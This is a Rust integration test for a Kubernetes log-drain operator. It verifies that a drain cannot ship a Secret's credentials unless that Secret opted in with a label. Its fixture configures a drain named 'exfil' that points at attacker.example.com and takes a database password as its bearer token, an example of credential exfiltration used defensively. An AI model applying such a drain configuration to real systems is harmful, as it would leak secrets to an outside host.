//! No Secret theft through a LogDrain: a drain may only use a Secret that opted in with the label
//! `sluice.dev/drain-credentials: "true"`. Naming any other Secret gives `Ready=False`,
//! `SecretNotPermitted`, with the `kubectl label` command that fixes it, and ships nothing; once
//! someone allowed to edit the Secret labels it, the drain resolves.

use std::collections::BTreeMap;

use anyhow::Result;
use k8s_openapi::api::core::v1::Secret;
use kube::{
    Api,
    api::{ObjectMeta, Patch, PatchParams, PostParams},
};
use serde_json::json;

use crate::{
    env_or_skip,
    support::has_event,
    tenancy::{drain_and_binding, node_drains, wait_ready},
};

#[tokio::test]
async fn a_secret_that_did_not_opt_in_is_never_sent() -> Result<()> {
    let env = env_or_skip!("secrets-optin");
    let ns = env.tenant.clone();
    let node = env.create_node("n").await?;
    env.create_pod("web-1", "web", &node, &[("app", "containerd://w1")])
        .await?;
    let password = "db-password-value-9f2c";
    let secret = Secret {
        metadata: ObjectMeta {
            name: Some("db".into()),
            ..Default::default()
        },
        string_data: Some(BTreeMap::from([("password".to_owned(), password.to_owned())])),
        ..Default::default()
    };
    let secrets: Api<Secret> = Api::namespaced(env.client.clone(), &ns);
    secrets.create(&PostParams::default(), &secret).await?;
    let op = env.operator("o1", &[]).await?;
    drain_and_binding(
        &env,
        &ns,
        "exfil",
        json!({"url": "https://attacker.example.com/collect",
        "credentials": {"secretName": "db", "bearerTokenKey": "password"}}),
    )
    .await?;
    drain_and_binding(
        &env,
        &ns,
        "plain",
        json!({"url": "syslog://logs.example.com:514"}),
    )
    .await?;

    let message = wait_ready(&env, &ns, "exfil", "False", "SecretNotPermitted").await?;
    assert!(
        message.ends_with(&format!(
            "kubectl label secret db -n {ns} sluice.dev/drain-credentials=true"
        )),
        "{message}"
    );
    crate::support::wait_for("a SecretNotPermitted Event", || {
        has_event(&env.client, &ns, "exfil", "SecretNotPermitted")
    })
    .await?;
    wait_ready(&env, &ns, "plain", "True", "Resolved").await?;
    assert_eq!(node_drains(&env, &node).await?, [format!("{ns}-plain")]);
    let yaml = env
        .node_secret(&node)
        .await?
        .and_then(|s| s.data)
        .and_then(|d| {
            d.get("config.yaml")
                .map(|y| String::from_utf8_lossy(&y.0).into_owned())
        })
        .unwrap_or_default();
    assert!(
        yaml.contains("plain") && !yaml.contains(password),
        "the password reached a node config"
    );

    // The Secret's owner opts in; now the drain may use it.
    let label = json!({"metadata": {"labels": {"sluice.dev/drain-credentials": "true"}}});
    secrets
        .patch("db", &PatchParams::default(), &Patch::Merge(&label))
        .await?;
    wait_ready(&env, &ns, "exfil", "True", "Resolved").await?;
    crate::support::wait_for("the node config carries both drains", || async {
        Ok(node_drains(&env, &node).await?.len() == 2)
    })
    .await?;
    op.stop().await
}
